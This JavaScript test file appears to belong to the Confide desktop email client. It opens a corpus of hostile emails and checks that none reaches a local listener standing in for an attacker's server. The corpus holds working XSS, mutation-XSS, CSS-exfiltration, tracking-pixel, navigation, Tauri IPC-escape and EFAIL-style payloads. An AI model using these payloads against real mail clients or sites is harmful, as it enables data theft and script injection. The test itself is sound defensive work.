// Issue 10: a corpus of hostile email opened in the real window, with a logging HTTP listener
// standing in for the attacker's server. Every vector that could run a script or reach the
// network points at the listener; after each message is opened and given time to misbehave,
// the listener must have heard nothing. The mail frame itself must have no script and no way
// to Tauri's IPC.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { join, resolve } from "node:path";
import { test } from "node:test";
import { firstRun, mailToPhoneline, needsLab, readLab, storeWithSharedMailbox } from "./flows.mjs";
import { Session, startDriver } from "./webdriver.mjs";

const root = resolve(import.meta.dirname, "../..");
const app = process.env.CONFIDE_APP ?? join(root, "target/debug/confide-app");
const artifacts = join(root, "tests/artifacts");

/** The corpus: each entry is an HTML body (or a whole MIME body) whose every way out names `u(tag)`. */
function corpus(u) {
  const js = (tag) => `fetch('${u(tag)}');new Image().src='${u(tag + "-img")}'`;
  return {
    script: `<p>Hello</p><script>${js("script")}</script><script src="${u("script-src")}"></script>`,
    handlers: `<img src=x onerror="${js("onerror")}"><body onload="${js("onload")}"><svg onload="${js("svg-onload")}"></svg><details open ontoggle="${js("ontoggle")}">x</details>`,
    mxss: `<noscript><p title="</noscript><img src=x onerror=${js("mxss-noscript")}>"></noscript>` +
      `<svg><style><img src=x onerror=${js("mxss-svg-style")}></style></svg>` +
      `<math><mtext><table><mglyph><style><img src=x onerror=${js("mxss-math")}></style></mglyph></table></mtext></math>` +
      `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js("mxss-form")}>`,
    css: `<style>@import url(${u("import")});@font-face{font-family:x;src:url(${u("font")})}p{background:url(${u("css-bg")})}input[value^="a"]{background:url(${u("css-attr")})}</style>` +
      `<link rel="stylesheet" href="${u("link-css")}"><p style="background-image:url(${u("inline-css")})">styled</p><input value="abc">`,
    pixels: `<img src="${u("pixel")}" width="1" height="1"><img srcset="${u("srcset")} 1x, ${u("srcset2")} 2x">` +
      `<picture><source srcset="${u("picture-source")}"><img src="${u("picture-img")}"></picture>` +
      `<video poster="${u("poster")}" src="${u("video")}"></video><audio src="${u("audio")}"></audio>` +
      `<table background="${u("table-bg")}"><tr><td background="${u("td-bg")}">t</td></tr></table><body background="${u("body-bg")}">`,
    navigation: `<meta http-equiv="refresh" content="0;url=${u("refresh")}"><base href="${u("base")}/"><a href="relative">relative</a>` +
      `<iframe src="${u("iframe")}"></iframe><object data="${u("object")}"></object><embed src="${u("embed")}">` +
      `<form action="${u("form")}"><input name=q><button>go</button></form><a href="${u("ping-href")}" ping="${u("ping")}">link</a>`,
    ipc: `<script>window.__TAURI_INTERNALS__ && window.__TAURI_INTERNALS__.invoke("inbox_page", {});` +
      `parent.__TAURI_INTERNALS__.invoke("inbox_page", {}).then(()=>fetch('${u("ipc-parent")}'))</script>` +
      `<img src=x onerror="top.__TAURI_INTERNALS__.invoke('inbox_page',{}).then(()=>fetch('${u("ipc-top")}'))">`,
  };
}

/** EFAIL-style: an HTML part that opens an attribute, a part in between, and one that closes it. */
function efail(u) {
  const b = "EFAILBOUNDARY";
  return `MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n` +
    `--${b}\r\nContent-Type: text/html\r\n\r\n<img src="${u("efail")}?\r\n` +
    `--${b}\r\nContent-Type: text/plain\r\n\r\nthe secret in between\r\n` +
    `--${b}\r\nContent-Type: text/html\r\n\r\n">\r\n--${b}--\r\n`;
}

test("issue10 hostile email in the real window runs no script and makes no request", { timeout: 300000, skip: needsLab }, async () => {
  assert.ok(process.env.CONFIDE_TEST_KEYRING, "run under tests/with-keyring");
  const heard = [];
  const listener = createServer((req, res) => {
    heard.push(req.url);
    res.end("");
  });
  await new Promise((r) => listener.listen(0, "127.0.0.1", r));
  const port = listener.address().port;
  const u = (tag) => `http://127.0.0.1:${port}/${tag}`;
  // The listener answers: if it stays silent below, it is because nothing asked.
  assert.equal((await fetch(u("control"))).status, 200);
  heard.length = 0;

  const lab = readLab();
  const stamp = Date.now();
  const html = (body) => `MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><head></head><body>${body}</body></html>\r\n`;
  const messages = Object.entries(corpus(u)).map(([name, body]) => [name, html(body)]);
  messages.push(["efail", efail(u)]);
  for (const [name, mime] of messages) {
    const sender = `hostile-${name}-${stamp}@example.org`;
    mailToPhoneline(lab, sender, `From: ${sender}\r\nTo: phoneline@lab.test\r\nSubject: Hostile ${name}\r\nMessage-ID: <hostile-${name}-${stamp}@example.org>\r\n${mime}`);
  }

  const store = storeWithSharedMailbox(lab, "confide-e2e-hostile-");
  const driver = await startDriver({ env: { CONFIDE_DATA_DIR: store } });
  const s = await Session.create(driver.base, app);
  try {
    await firstRun(s);
    await s.waitForText(".sync-status", "new messages", 60000);
    for (const [name] of messages) {
      const sender = `hostile-${name}-${stamp}@example.org`;
      await s.waitForText(".rows", sender, 30000);
      await s.clickText(".row", sender);
      await s.waitForText(".message-head", sender);
      // Time for a refresh, a late image or a script's fetch to happen, had any been allowed.
      await new Promise((r) => setTimeout(r, 1500));
      assert.deepEqual(heard, [], `opening "${name}" reached the network`);
      // Each layer on its own: what the sanitiser passed to the frame names no way out and
      // carries no script, whatever the CSP and the sandbox would have stopped.
      const shown = await s.cmd("POST", "/execute/sync", { script: "return [...document.querySelectorAll('iframe.mail-html')].map((f) => f.getAttribute('srcdoc')).join('\\n')", args: [] });
      assert.ok(!shown.includes(`:${port}`), `"${name}" kept a reference to the listener: ${shown}`);
      assert.ok(!/<script|\son[a-z]+\s*=|javascript:|<meta|<base|<link|@import|url\(/i.test(shown), `"${name}" kept something active: ${shown}`);
      if (name === "pixels") await s.screenshot(artifacts, "18-hostile-corpus");
      // The page is still ours: no navigation, no script of the message's ran in it.
      const page = await s.cmd("POST", "/execute/sync", { script: "return [document.title, location.protocol + '//' + location.host]", args: [] });
      assert.equal(page[0], "Confide", `after "${name}" the window is no longer Confide's page`);
    }
    // Every mail frame has the empty sandbox: no scripts, and no same origin, so no IPC.
    const frames = await s.cmd("POST", "/execute/sync", {
      script: "return [...document.querySelectorAll('iframe')].map((f) => [f.className, f.getAttribute('sandbox'), f.contentWindow && (() => { try { return typeof f.contentWindow.__TAURI_INTERNALS__; } catch (e) { return 'cross-origin'; } })()])",
      args: [],
    });
    assert.ok(frames.length > 0, "the last message is shown in a frame");
    for (const [cls, sandbox, reach] of frames) {
      assert.equal(cls, "mail-html");
      assert.equal(sandbox, "", "the mail frame must have the empty sandbox");
      assert.equal(reach, "cross-origin", "the page must not be able to reach into the mail frame, nor the frame out");
    }
    console.log(`hostile corpus: ${messages.length} messages opened, ${heard.length} requests heard`);
  } finally {
    await s.close();
    driver.stop();
    listener.close();
  }
});
